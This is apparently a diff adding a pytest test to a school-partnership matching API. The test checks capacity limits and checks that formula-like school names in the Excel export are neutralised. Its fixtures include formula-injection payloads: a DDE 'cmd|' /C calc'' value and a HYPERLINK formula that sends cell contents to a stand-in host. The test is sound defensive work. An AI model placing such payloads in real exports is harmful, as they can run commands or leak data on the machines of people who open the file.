@@ -85,3 +85,41 @@ def test_cancel_queued_and_running_jobs(client):
     assert finished_job(client, first)["status"] == "cancelled"
     assert finished_job(client, second)["status"] == "cancelled"
     assert client.get(f"/batch/{first}/result", headers=WRITE).status_code == 409
+
+
+def test_capacity_override_never_gives_places_to_schools_not_looking_api(tmp_path):
+    """Issue 13: an API batch with capacity 2 leaves capacity-0 and inactive schools without partners; the
+    result's workbook (GET /batch/{job}/result.xlsx) reads back with formula names neutralised."""
+    import openpyxl
+
+    from tests.support.factories import cohort
+
+    formulas = ['=HYPERLINK("http://x.example/?q="&A2,"details")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
+    records, closed = [], set()
+    for i, p in enumerate(cohort(24, 30, seed=5)):
+        update: dict[str, object] = {"capacity": max(1, p.capacity), "active": True}
+        if i % 3 == 0:
+            update = {"capacity": 0, "active": True}
+        elif i % 5 == 0:
+            update = {"capacity": 2, "active": False}
+        if i % 7 == 1:
+            update["name"] = formulas[i % 4]
+        if "capacity" in update and (update["capacity"] == 0 or not update["active"]):
+            closed.add(p.school_id)
+        records.append(p.model_copy(update=update).model_dump(mode="json"))
+    with TestClient(create_app(make_settings(tmp_path))) as c:
+        seed(c, records)
+        job = c.post("/batch", json={"options": {"capacity": 2}}, headers=WRITE).json()
+        assert finished_job(c, job["id"])["status"] == "done"
+        pairs = c.get(f"/batch/{job['id']}/result", headers=WRITE).json()["partnerships"]
+        matched = {p["uk_school_id"] for p in pairs} | {p["partner_school_id"] for p in pairs}
+        assert pairs and not matched & closed
+        r = c.get(f"/batch/{job['id']}/result.xlsx", headers=WRITE)
+        assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxmlformats")
+        book = openpyxl.load_workbook(io.BytesIO(r.content))
+        assert book.sheetnames == ["partnerships", "unmatched", "summary"]
+        assert len(list(book["partnerships"].iter_rows())) == len(pairs) + 1
+        cells = [v for sheet in book for row in sheet.iter_rows(values_only=True) for v in row if isinstance(v, str)]
+        assert not [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert any(v == "'" + f for v in cells for f in formulas)
+        assert c.get("/batch/nope/result.xlsx", headers=WRITE).status_code == 404
